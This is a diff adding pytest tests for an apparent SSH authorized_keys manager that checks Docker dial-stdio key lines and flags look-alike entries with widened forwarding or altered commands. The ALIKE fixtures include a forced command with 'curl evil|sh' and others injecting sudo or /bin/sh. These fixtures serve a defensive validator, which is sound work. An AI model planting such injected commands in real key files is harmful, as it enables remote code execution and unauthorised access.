@@ -25,6 +25,53 @@ def test_our_own_lines_are_known(form: Form, sources: tuple[str, ...], server: s
     assert authorized_keys.made_for(KEY, found.form, terms) == line
 
 
+TERMS = [
+    Terms("/run/user/1000/docker.sock", "/opt/a+b/docker"),
+    Terms("/run/user/1000/docker.sock"),
+    Terms(SOCKET, "/usr/local/bin/docker", sudo="/usr/bin/sudo"),
+    Terms(SOCKET, "/usr/local/bin/docker", is_root=True),
+]
+
+
+@pytest.mark.parametrize("terms", TERMS)
+def test_our_lines_for_every_guest_are_known(terms: Terms) -> None:
+    """Whatever its socket is, and how its engine is reached."""
+    for form in Form:
+        line = authorized_keys.made_for(KEY, form, terms)
+        found = standing_lines.read(line, KEY) if line is not None else None
+        assert line is None or (found is not None and not found.strange)
+
+
+OPEN = 'restrict,port-forwarding,permitopen="[/run/a.sock]:*",permitlisten="localhost:1"'
+RELAY = "/usr/bin/docker -H unix:///run/a.sock system dial-stdio"
+ALIKE = [
+    'restrict,command="/bin/x;curl evil|sh; system dial-stdio"',
+    'restrict,command="/bin/sudo -n sh -c x docker system dial-stdio"',
+    'restrict,command="/tmp/x system dial-stdio"',
+    'restrict,command="/bin/false"',
+    'restrict,port-forwarding,permitopen="any:*",permitlisten="*:*",command="/bin/false"',
+    OPEN.replace("localhost:1", "*:*") + ',command="/bin/false"',
+    OPEN.replace("localhost:1", "localhost:2") + ',command="/bin/false"',
+    OPEN.replace("[/run/a.sock]:*", "*:*") + ',command="/bin/false"',
+    OPEN.replace("[/run/a.sock]:*", "[/run/a.sock]:*,10.0.0.1:22") + ',command="/bin/false"',
+    OPEN + ',permitopen="any:*",command="/bin/false"',
+    OPEN + f',command="{RELAY}",command="/bin/sh"',
+    OPEN + f',command="{RELAY.replace("a.sock", "b.sock")}"',
+    OPEN + ',command="/usr/bin/docker system dial-stdio"',
+    f'restrict="x",command="{RELAY}"',
+]
+
+
+@pytest.mark.parametrize("options", ALIKE)
+def test_a_line_that_only_looks_like_ours_is_not_taken_for_it(options: str) -> None:
+    """The names of its options are ours, what they allow is not: that is told when it is replaced."""
+    found = standing_lines.read(f"{options} {KEY} xscontainer", KEY)
+    assert found is not None
+    assert set(found.strange) >= {option.partition("=")[0] for option in ("restrict", "command")}
+    new = f'restrict,command="{RELAY}" {KEY} xscontainer'
+    assert "it had the options restrict, " in standing_lines.told(new, found, KEY)
+
+
 STRANGE = [
     ('restrict,command="/bin/date"', Form.EXEC_ONLY, ()),
     ('from="10.0.0.0/8",no-pty', Form.RESTRICTED, ("10.0.0.0/8",)),
